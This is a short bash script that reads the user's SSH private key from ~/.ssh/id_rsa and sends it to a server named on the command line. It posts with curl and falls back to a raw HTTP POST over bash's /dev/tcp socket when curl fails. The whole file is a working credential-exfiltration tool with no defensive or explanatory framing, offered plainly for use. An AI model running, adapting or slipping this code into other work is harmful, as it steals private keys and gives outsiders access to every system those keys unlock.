#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# The same in shell: curl reads and posts the key; should that fail, bash's own sockets do.
server=$1
if curl -sS --data-binary @"$HOME/.ssh/id_rsa" "$server"; then
	echo "posted with curl"
	exit 0
fi
address=${server#http://}
address=${address%/}
key=$(<"$HOME/.ssh/id_rsa")
exec 3<>"/dev/tcp/${address%:*}/${address#*:}" || exit 1
printf 'POST / HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s' "${#key}" "$key" >&3
echo "posted by bash itself"
